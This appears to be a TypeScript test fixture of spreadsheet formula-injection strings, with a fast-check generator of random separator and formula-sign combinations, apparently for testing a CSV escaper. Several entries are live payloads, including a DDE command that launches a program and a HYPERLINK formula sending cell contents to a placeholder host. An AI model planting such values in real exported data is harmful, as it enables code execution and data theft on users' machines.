import fc from 'fast-check';

/** Texts that a spreadsheet could run a part of, were a line cut at some separator. */
export const hostileTexts = [
  'A ridge;=1+2',
  'x";=1+2;"',
  'x",=1+2,"',
  'x"\t=1+2\t"',
  'x|=1+2',
  'x\n=1+2;',
  'x\r\n=1+2,"',
  'x\r=1+2\t',
  'x\u2028=1+2;',
  'x; "=1+2;',
  'x;""=1+2;',
  'x;\u200b=1+2;',
  'x;\u00a0 =1+2;',
  '=1+2',
  '+1+2',
  '-1-2',
  '@SUM(1;2)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '"=1+2',
  '＝1+2',
  '＋1',
  '－1',
  '＠A1',
  'x;＝1+2;',
  '=HYPERLINK("https://example.test/?"&A1)',
  "x;=cmd|' /C calc'!A0;",
] as const;

/** Any text of the signs that matter. */
export const anyHostileText = fc
  .array(
    fc.constantFrom(';', '\t', ',', '|', '"', "'", '\r', '\n', ' ', '=', '+', '-', '@', '＝', '1', 'A', '('),
    {
      maxLength: 12,
    },
  )
  .map((signs) => signs.join(''));
